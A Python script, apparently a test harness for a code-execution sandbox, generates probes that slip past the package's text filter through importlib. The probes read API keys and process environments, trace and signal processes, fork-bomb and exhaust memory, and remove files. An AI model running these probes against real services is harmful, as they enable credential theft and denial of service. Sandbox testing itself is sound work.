"""What code does that means harm, past the package's text filter.

usage: attacks.py code NAME [ARGUMENT…]     prints the code of one
       attacks.py at TARGET KEY             tries those of standard input, one a line, and prints for
                                            each its line, a tab, and what it came to

Each sets `result` to what it got, or to the name of the error that stopped it. Modules come by
importlib, whose argument the filter does not read.
"""

import logging
import shlex
import sys

START = """
import importlib, os, sys, errno
def module(name):
    return importlib.import_module(name)
builtins, socket, ctypes = map(module, ["builtins", "socket", "ctypes"])
opener, entries = builtins.__dict__["open"], os.listdir
read = lambda path: opener(path, "rb").read().decode(errors="replace")
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "done"
def attempt():
%s
try:
    result = attempt()
except OSError as error:
    result = errno.errorcode.get(error.errno, str(error))
"""

ATTACKS = {
    # The network.
    "connect": "    socket.create_connection(({0!r}, {1}), 3).close(); return 'connected'",
    "resolve": "    return socket.gethostbyname({0!r})",
    "datagram": """\
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect(({0!r}, {1})); one.send(b'out')
    one.settimeout(1)
    try:
        one.recv(9)
    except TimeoutError:
        pass
    return 'sent'""",
    "raw": "    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(); return 'opened'",
    "listen": """\
    one = socket.socket(socket.AF_INET6)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    one.bind(('::', {0})); one.listen(); return 'listens'""",
    # The environment, and what holds the key.
    "environment": "    return os.environ.get('CODEMODE_API_KEY', 'none')",
    "command-lines": """\
    return sum({0!r} in read(f'/proc/{{name}}/cmdline') for name in entries('/proc') if name.isdigit())""",
    "own-key": "    return str(API_KEY)",
    "environment-of": "    return {1!r} in read('/proc/{0}/environ')",
    "memory-of": "    opener('/proc/{0}/mem', 'rb').close(); return 'opened'",
    # Other processes.
    "trace": "    return call(101, 0x4206, {0}, 0, 0)",  # PTRACE_SEIZE
    "signal": "    os.kill({0}, 0); return 'may signal'",
    "signal-others": """\
    reached = 0
    for number in range(1, os.getpid() + 50):
        if number != os.getpid():
            try:
                os.kill(number, 0)
                reached += 1
            except OSError:
                pass
    return reached""",
    "leave": """\
    if os.fork() == 0:
        os.setsid()
        for one in range(3): os.close(one)
        module('time').sleep(600)
    return 'left'""",
    "leave-all": """\
    for count in range(5000):
        try:
            one = os.fork()
        except OSError:
            return count
        if one == 0:
            os.setsid()
            for one in range(3): os.close(one)
            module('time').sleep(600)
            os._exit(0)
    return 5000""",
    # Memory: more than the container has, by many that are small; and what outlives its maker.
    "eat": """\
    for _ in range(60):
        if os.fork() == 0:
            kept = b'x' * (8 << 20)
            module('time').sleep(20)
            os._exit(0)
    module('time').sleep(3)
    ended = 0
    while os.waitpid(-1, os.WNOHANG)[0]:
        ended += 1
    return f'{{ended}} ended'""",
    "outlast": """\
    def said(made):
        return 'made' if made >= 0 else errno.errorcode[ctypes.get_errno()]
    return ' '.join([said(libc.shmget(0, 4096, 0o1600)), said(libc.semget(0, 1, 0o1600)),
        said(libc.msgget(0, 0o1600)), said(libc['mq_open'](b'/left', 0o102, 0o600, None))])""",
    "lock": """\
    lock = module('multiprocessing').Lock()
    with lock: return 'locked'""",
    "limit": "    module('resource').prlimit({0}, 4, (0, 0)); return 'limited'",  # RLIMIT_CORE
    # Files, and the kernel.
    "read": "    return read({0!r})[:40]",
    "write": "    opener({0!r}, 'w').write('x'); return 'written'",
    "remove": "    os.remove({0!r}); return 'removed'",
    "namespace": "    return call(272, 0x10000000)",  # unshare(CLONE_NEWUSER)
    "ask-init": """\
    one = socket.socket(socket.AF_UNIX); one.connect('/run/codetainer/control.sock')
    one.send({0!r}.encode() + b'\\n'); return one.recv(99).decode()""",
}


def code(name, *arguments):
    values = [int(one) if one.isdigit() else one for one in arguments]
    return START % ATTACKS[name].format(*values)


def at(target, key):
    from codemode.core.executor_client import ExecutorClient

    logging.disable(logging.CRITICAL)
    with ExecutorClient(target, key, timeout=60, retry_max_attempts=1) as client:
        for line in sys.stdin.read().splitlines():
            answer = client.execute(code(*shlex.split(line)), [], {}, execution_timeout=10)
            print(line, answer.result or answer.error, sep="\t", flush=True)


def main():
    command, *words = sys.argv[1:]
    if command == "at":
        at(*words)
    else:
        print(code(*words))


main()
